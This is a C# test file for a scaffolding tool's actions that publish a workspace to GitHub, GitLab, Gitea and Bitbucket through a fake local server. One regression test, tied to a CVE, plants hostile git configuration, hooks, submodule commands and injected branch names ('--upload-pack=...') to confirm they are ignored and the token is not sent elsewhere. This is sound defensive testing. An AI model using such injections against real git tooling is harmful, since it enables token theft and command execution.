using System.Collections.Concurrent;
using System.Text.Json.Nodes;
using Axle.Platform.Templates.Actions;
using Axle.Tests.Source;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;

namespace Axle.Tests.Templates.Actions;

/// <summary>Publishing to hosts elsewhere: a small API of our own before another platform's git server.</summary>
[Trait("Speed", "Slow")]
public sealed class PublishElsewhereTests
{
    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("github", "owner=shop&repo=orders")]
    [InlineData("gitlab", "owner=shop&repo=orders")]
    [InlineData("gitea", "owner=shop&repo=orders")]
    [InlineData("bitbucketCloud", "workspace=shop&project=SH&repo=orders")]
    [InlineData("bitbucketServer", "project=SH&repo=orders")]
    public async Task The_workspace_becomes_the_first_commit_of_a_repository_there(string kind, string rest)
    {
        await using var elsewhere = await Elsewhere.StartAsync();
        await using var host = await ActionsHost.StartAsync(elsewhere.Settings(kind));
        host.InWorkspace("a.txt", "hello");
        var input = $$"""{ "repoUrl": "{{elsewhere.Authority}}?{{rest}}", "description": "Takes orders", "protectDefaultBranch": true }""";

        var output = await host.MustAsync($"publish:{kind}", input);

        var commit = output["commitHash"]!.GetValue<string>();
        Assert.Equal("hello", await elsewhere.Git.Repositories.ReadAsync("orders", commit, "a.txt", Stop));
        Assert.Contains("orders", output["remoteUrl"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Contains(host.Log, line => line.Contains("protectDefaultBranch", StringComparison.Ordinal));
        Assert.All(elsewhere.Requests, request => Assert.Contains("authorization", request, StringComparison.OrdinalIgnoreCase));

        // Killed before it could say so: the same commit again.
        Assert.Equal(commit, (await host.MustAsync($"publish:{kind}", input))["commitHash"]!.GetValue<string>());

        // Another task does not get the repository, and no token is in what anybody reads.
        host.State = [];
        var taken = await host.RefusedAsync($"publish:{kind}", input);
        Assert.DoesNotContain(Elsewhere.Token, string.Join('\n', host.Log.Append(taken.Message).Append(taken.Next)), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("github", "publish:github:pull-request")]
    [InlineData("gitlab", "publish:gitlab:merge-request")]
    public async Task A_change_is_proposed_as_a_branch(string kind, string action)
    {
        await using var elsewhere = await Elsewhere.StartAsync();
        await elsewhere.Git.AddAsync("orders");
        var first = (await elsewhere.Git.Repositories.CommitAsync("orders", [new("a.txt", "old"u8.ToArray()), new("keep.txt", "keep"u8.ToArray())], "first", "a", Stop)).Value;
        await using var host = await ActionsHost.StartAsync(elsewhere.Settings(kind));
        host.InWorkspace("a.txt", "new");
        var input = $$"""{ "repoUrl": "{{elsewhere.Authority}}?owner=shop&repo=orders", "branchName": "change/one", "title": "Change one" }""";

        var output = await host.MustAsync(action, input);
        Assert.Equal("http://pages.test/7", output["remoteUrl"]!.GetValue<string>());

        var branch = (await elsewhere.Git.Repositories.ResolveAsync("orders", "change/one", Stop))!;
        Assert.Equal("new", await elsewhere.Git.Repositories.ReadAsync("orders", branch.Commit, "a.txt", Stop));
        Assert.Equal("keep", await elsewhere.Git.Repositories.ReadAsync("orders", branch.Commit, "keep.txt", Stop));
        Assert.Equal(first, (await elsewhere.Git.Repositories.ResolveAsync("orders", null, Stop))!.Commit);

        var proposals = elsewhere.Requests.Count(request => request.Contains("POST", StringComparison.Ordinal));
        await host.MustAsync(action, input);
        Assert.Equal(proposals, elsewhere.Requests.Count(request => request.Contains("POST", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task An_action_is_sent_to_another_host_by_the_settings()
    {
        await using var elsewhere = await Elsewhere.StartAsync();
        var settings = elsewhere.Settings("gitea");
        settings["Templates:Publish:publish:github"] = "publish:axle";
        settings["Templates:Publish:publish:gitlab"] = $"publish:gitea?host={elsewhere.Authority}&owner=shop";
        await using var host = await ActionsHost.StartAsync(settings);
        host.InWorkspace("a.txt", "hello");

        Assert.Null(Action(host, "publish:github").Refuse([]));
        var here = await host.MustAsync("publish:github", """{ "repoUrl": "github.com?owner=shop&repo=orders" }""");
        Assert.Equal("http://axle.test/git/orders.git", here["remoteUrl"]!.GetValue<string>());

        host.State = [];
        var there = await host.MustAsync("publish:gitlab", """{ "repoUrl": "gitlab.com?owner=x&repo=payments" }""");
        Assert.Equal("hello", await elsewhere.Git.Repositories.ReadAsync("payments", there["commitHash"]!.GetValue<string>(), "a.txt", Stop));
    }

    /// <summary>CVE-2024-53983: a template wrote settings where the scaffolder's git reads them, and they led it, and its token, elsewhere.</summary>
    [Fact]
    public async Task Settings_of_git_in_the_workspace_are_nobodys()
    {
        await using var elsewhere = await Elsewhere.StartAsync();
        await using var host = await ActionsHost.StartAsync(elsewhere.Settings("gitea"));
        using var attacker = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0);
        attacker.Start();
        var (trap, mark) = ($"http://127.0.0.1:{((System.Net.IPEndPoint)attacker.LocalEndpoint).Port}/", Path.Combine(host.Folder("outside"), "ran"));
        var settings = $"[http]\n\tproxy = {trap}\n\textraHeader = X: y\n[url \"{trap}\"]\n\tinsteadOf = http://\n[credential]\n\thelper = !touch {mark}\n[core]\n\tsshCommand = touch {mark}\n\tfsmonitor = touch {mark}\n\thooksPath = hooks\n[filter \"x\"]\n\tclean = touch {mark}\n\tsmudge = touch {mark}\n[remote \"origin\"]\n\turl = {trap}\n";
        foreach (var (path, text) in ((string, string)[])[(".git/config", settings), ("config", settings), (".gitconfig", settings), (".config/git/config", settings), (".gitattributes", "* filter=x\n"), (".gitmodules", $"[submodule \"x\"]\n\tpath = x\n\turl = {trap}\n\tupdate = !touch {mark}\n"), (".git/HEAD", "ref: refs/heads/main\n"), ("a.txt", "hello")])
        {
            host.InWorkspace(path, text);
        }

        foreach (var hook in (string[])["hooks/pre-push", "hooks/pre-commit", ".git/hooks/pre-push", ".git/hooks/post-commit"])
        {
            host.InWorkspace(hook, $"#!/bin/sh\ntouch {mark}\n");
            File.SetUnixFileMode(Path.Combine(host.Workspace, hook), UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        }

        var input = $$"""{ "repoUrl": "{{elsewhere.Authority}}?owner=shop&repo=orders" }""";
        var published = await host.RunAsync("publish:gitea", input);
        foreach (var branch in (string[])[$"main\\n[url \\\"{trap}\\\"]\\n\\tinsteadOf = http://", $"--upload-pack=touch {mark}", $"--receive-pack=touch {mark}", "-c", "refs/heads/../../config", "a..b", "x:y"])
        {
            host.State = [];
            var refused = await host.RunAsync("publish:gitea", $$"""{ "repoUrl": "{{elsewhere.Authority}}?owner=shop&repo=b{{Guid.NewGuid().ToString("N")[..8]}}", "defaultBranch": "{{branch}}", "gitAuthorName": "{{branch}}" }""");
            Assert.False(refused.Ok, branch);
        }

        Assert.False(attacker.Pending());
        Assert.False(File.Exists(mark));
        if (published.Ok)
        {
            Assert.Equal("hello", await elsewhere.Git.Repositories.ReadAsync("orders", published.Value.Output["commitHash"]!.GetValue<string>(), "a.txt", Stop));
        }
    }

    [Fact]
    public async Task What_is_sent_to_a_host_without_a_token_or_in_a_circle_is_refused_before_anything_runs()
    {
        await using var host = await ActionsHost.StartAsync(new()
        {
            ["Templates:Publish:publish:github"] = "publish:gitea?host=gitea.com&owner=shop",
            ["Templates:Publish:publish:gitlab"] = "publish:bitbucketCloud",
            ["Templates:Publish:publish:bitbucketCloud"] = "publish:gitlab",
            ["Templates:Publish:publish:bitbucketServer"] = "publish:nothing",
        });
        var input = new JsonObject { ["repoUrl"] = "github.com?owner=x&repo=orders" };

        Assert.Contains("no token for gitea.com", Action(host, "publish:github").Refuse(input)!.Message, StringComparison.Ordinal);
        Assert.Contains("one step is all", Action(host, "publish:gitlab").Refuse(input)!.Message, StringComparison.Ordinal);
        Assert.Contains("there is none of", Action(host, "publish:bitbucketServer").Refuse(input)!.Message, StringComparison.Ordinal);
        Assert.Equal("templates.action_publish", (await host.RefusedAsync("publish:gitlab", input.ToJsonString())).Code);
        Assert.Null(Action(host, "publish:github").Refuse(new JsonObject { ["repoUrl"] = "github.com?owner=x&repo=orders", ["token"] = "x" }));
    }

    [Fact]
    public async Task Without_a_token_it_is_refused_before_anything_runs()
    {
        await using var host = await ActionsHost.StartAsync();
        host.InWorkspace("a.txt", "hello");

        Assert.Contains("Templates:Publish:publish:github = publish:axle", Action(host, "publish:github").Refuse([])!.Next, StringComparison.Ordinal);
        Assert.Null(Action(host, "publish:github").Refuse(new JsonObject { ["token"] = "${{ secrets.token }}" }));
        Assert.Null(Action(host, "publish:axle").Refuse([]));
        Assert.Equal("templates.action_publish", (await host.RefusedAsync("publish:github", """{ "repoUrl": "github.com?owner=shop&repo=orders" }""")).Code);
        Assert.Equal("templates.action_publish", (await host.RefusedAsync("publish:github", """{ "repoUrl": "git.unknown.test?owner=shop&repo=orders", "token": "x" }""")).Code);
    }

    private static ITemplateAction Action(ActionsHost host, string id) => host.Service<IEnumerable<ITemplateAction>>().Single(action => action.Id == id);

    /// <summary>All hosts' APIs at once, as far as publishing needs them.</summary>
    private sealed class Elsewhere : IAsyncDisposable
    {
        public const string Token = "very-secret-token";

        private readonly WebApplication _api;

        private Elsewhere(SourceHost git, WebApplication api) => (Git, _api) = (git, api);

        public SourceHost Git { get; }

        public string Authority => new Uri(_api.Urls.First()).Authority;

        public ConcurrentQueue<string> Requests { get; } = new();

        public static async Task<Elsewhere> StartAsync()
        {
            var builder = WebApplication.CreateEmptyBuilder(new WebApplicationOptions());
            builder.WebHost.UseKestrel(o => o.Listen(System.Net.IPAddress.Loopback, 0));
            builder.Logging.SetMinimumLevel(LogLevel.None);
            var elsewhere = new Elsewhere(await SourceHost.StartAsync(), builder.Build());
            elsewhere._api.Run(elsewhere.AnswerAsync);
            await elsewhere._api.StartAsync(Stop);
            return elsewhere;
        }

        public Dictionary<string, string?> Settings(string kind) => new()
        {
            ["Catalog:ReadingAllow:0"] = "127.0.0.1",
            [$"Integrations:{kind}:0:Host"] = Authority,
            [$"Integrations:{kind}:0:ApiBaseUrl"] = $"http://{Authority}",
            [$"Integrations:{kind}:0:Token"] = Token,
            [$"Integrations:{kind}:0:Username"] = "admin",
        };

        public async ValueTask DisposeAsync()
        {
            await _api.DisposeAsync();
            await Git.DisposeAsync();
        }

        private async Task AnswerAsync(HttpContext context)
        {
            var (method, path) = (context.Request.Method, context.Request.Path.Value!);
            Requests.Enqueue($"{method} {path} {string.Join(' ', context.Request.Headers.Keys)}");
            var body = method == "POST" ? (JsonObject)(await JsonNode.ParseAsync(context.Request.Body))! : [];
            JsonObject answer;
            if (method == "POST" && (path.EndsWith("/pulls", StringComparison.Ordinal) || path.EndsWith("/merge_requests", StringComparison.Ordinal)))
            {
                answer = new JsonObject { ["html_url"] = "http://pages.test/7", ["web_url"] = "http://pages.test/7", ["number"] = 7, ["iid"] = 7 };
            }
            else if (method == "POST")
            {
                var name = body["name"]?.GetValue<string>() ?? path[(path.LastIndexOf('/') + 1)..];
                if (Git.Repositories.Exists(name))
                {
                    context.Response.StatusCode = 422;
                    await context.Response.WriteAsync("""{ "message": "name already exists" }""");
                    return;
                }

                await Git.Repositories.CreateAsync(name, context.RequestAborted);
                answer = Repository(name);
            }
            else
            {
                answer = path.Contains("orders", StringComparison.Ordinal) ? Repository("orders") : new JsonObject { ["type"] = "Organization", ["id"] = 12 };
            }

            await context.Response.WriteAsync(answer.ToJsonString());
        }

        private JsonObject Repository(string name)
        {
            var clone = $"{Git.Url}/git/{name}.git";
            return new JsonObject
            {
                ["clone_url"] = clone,
                ["html_url"] = $"{Git.Url}/{name}",
                ["http_url_to_repo"] = clone,
                ["default_branch"] = "main",
                ["links"] = new JsonObject
                {
                    ["clone"] = new JsonArray(new JsonObject { ["name"] = "ssh", ["href"] = "git@x" }, new JsonObject { ["name"] = "http", ["href"] = clone }),
                    ["html"] = new JsonObject { ["href"] = $"{Git.Url}/{name}" },
                    ["self"] = new JsonArray(new JsonObject { ["href"] = $"{Git.Url}/{name}/browse" }),
                },
            };
        }
    }
}
